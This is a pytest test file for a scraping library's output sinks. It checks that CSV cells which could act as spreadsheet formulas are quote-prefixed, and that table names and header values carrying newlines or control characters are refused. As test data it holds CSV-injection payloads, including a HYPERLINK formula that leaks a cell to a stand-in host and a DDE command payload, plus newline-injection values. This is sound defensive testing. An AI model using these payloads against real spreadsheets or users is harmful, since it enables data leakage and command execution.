"""Issue 36 items 8 and 9: what a sink writes cannot turn into a spreadsheet formula, a table
name is one line of letters, digits and ``_``, and a header value holds no C1 control.

A CSV cell beginning with ``=``, ``+``, ``-``, ``@``, a tab or a CR is prefixed with a single
quote (OWASP, "CSV Injection"); JSONL and the database sinks keep the text as it was.
"""

from __future__ import annotations

import asyncio
import csv
import io
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from scrapeq import AsyncQueue, Job, Request, Response
from scrapeq.errors import ConfigError, InvalidRequest
from scrapeq.runtime.sinks import CsvSink, PostgresSink, SqliteSink, sink_from_url
from scrapeq.runtime.sinks.csvfile import csv_line
from scrapeq.runtime.worker import Worker
from support.records import record
from support.sites import sites

EVIL = '=HYPERLINK("http://evil.test/?"&A1,"Click")'


def _rows(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8", newline="") as f:  # as the csv module asks
        return list(csv.DictReader(f))


# --- CSV formula injection ---------------------------------------------------------------


@pytest.mark.parametrize(
    "text", [EVIL, "+1+1", "-2+3", "@SUM(1,2)", "\t=1+1", "\r=1+1", "=", "-", "+cmd|' /C calc'!A0"]
)
async def test_a_csv_cell_that_could_be_a_formula_starts_with_a_quote(
    tmp_path: Path, text: str
) -> None:
    out = tmp_path / "res.csv"
    sink = CsvSink(out)
    await sink.open()
    await sink.write(record("a1", result=text, error=text, lane="normal"))
    await sink.close()
    (row,) = _rows(out)
    assert (row["result"], row["error"]) == ("'" + text, "'" + text)
    assert (row["lane"], row["status"], row["job_id"]) == ("normal", "200", "a1"), "others as given"


async def test_a_cr_inside_a_cell_keeps_the_row_whole(tmp_path: Path) -> None:
    """Python 3.11's csv writer leaves a bare CR unquoted (lines end in LF): a reader would
    end the row there."""
    out = tmp_path / "res.csv"
    sink = CsvSink(out)
    await sink.open()
    await sink.write(record("a1", result="line 1\rline 2", error="e\r\nf"))
    await sink.write(record("a2", result="\r=1+1"))
    await sink.close()
    rows = _rows(out)
    assert [r["job_id"] for r in rows] == ["a1", "a2"]
    assert (rows[0]["result"], rows[0]["error"]) == ("line 1\rline 2", "e\r\nf")
    assert (rows[0]["status"], rows[1]["result"]) == ("200", "'\r=1+1")


def test_harmless_cells_are_written_as_they_are() -> None:
    line = csv_line(record("a1", result="a = b", error="x-1", url="http://x.test/=1", status=-1))
    (cells,) = csv.reader(io.StringIO(line))
    assert "a = b" in cells and "x-1" in cells and "http://x.test/=1" in cells
    assert "-1" in cells, "a number is not text a spreadsheet reads as a formula"
    nested = csv_line(record("a1", result={"k": "=1+1"}))
    assert '{"k":"=1+1"}' in next(csv.reader(io.StringIO(nested))), "JSON text starts with {"


async def test_a_scraped_title_becomes_text_in_the_csv_not_a_formula(
    make_async_queue: Callable[..., AsyncQueue], tmp_path: Path
) -> None:
    """A worker whose handler returns a page's title, the page titled with a formula."""
    from aiohttp import web

    async def page(request: web.Request) -> web.StreamResponse:
        html = f"<html><head><title>{EVIL}</title></head><body>x</body></html>"
        return web.Response(text=html, content_type="text/html")

    def handler(job: Job, response: Response) -> Any:
        return response.css("title::text").get()

    q = make_async_queue(allow_private=True, request_timeout=5.0)
    out = tmp_path / "res.csv"
    async with sites(page) as (site,):
        await q.enqueue(site.url("/p"))
        worker = Worker(q, handler=handler, sink=CsvSink(out), burst=True)
        await asyncio.wait_for(worker.run_async(), 30)
    (row,) = _rows(out)
    assert row["result"] == "'" + EVIL


# --- table names ---------------------------------------------------------------------------


@pytest.mark.parametrize("name", ["results\n", "results\r\n", "\nresults", "a b", "1x", ""])
def test_a_table_name_with_a_newline_is_refused_and_nothing_is_made(
    tmp_path: Path, name: str
) -> None:
    db = tmp_path / "res.db"
    with pytest.raises(ConfigError, match="table") as caught:
        SqliteSink(db, table=name)
    assert "\n" not in str(caught.value).strip()
    with pytest.raises(ConfigError, match="table"):
        sink_from_url(f"sqlite:///{db}?table={name.replace(chr(10), '%0A')}")
    with pytest.raises(ConfigError, match="table"):
        PostgresSink(f"postgresql://u@127.0.0.1:9/db?table={name.replace(chr(10), '%0A')}")
    assert not db.exists(), "a refused name creates nothing"


def test_a_good_table_name_is_kept() -> None:
    assert SqliteSink("unused.db", table="Results_2").table == "Results_2"


# --- header values: no C1 control --------------------------------------------------------


@pytest.mark.parametrize("char", ["\x85", "\x80", "\x9f", "\x7f", "\x00", "\n"])
def test_a_header_value_with_a_control_character_is_refused(char: str) -> None:
    with pytest.raises(InvalidRequest, match="X-Note") as caught:
        Request("http://x.test/", headers={"X-Note": f"a{char}b"})
    assert "\n" not in str(caught.value).strip(), "one line"
    with pytest.raises(InvalidRequest, match="X-Note"):
        Request.from_fields({"url": "http://x.test/", "headers": {"X-Note": f"a{char}b"}})


def test_a_header_value_with_latin_1_letters_is_kept() -> None:
    request = Request("http://x.test/", headers={"X-Note": "caf\xe9 \xa0 \xff\tok"})
    assert request.headers == (("X-Note", "caf\xe9 \xa0 \xff\tok"),)
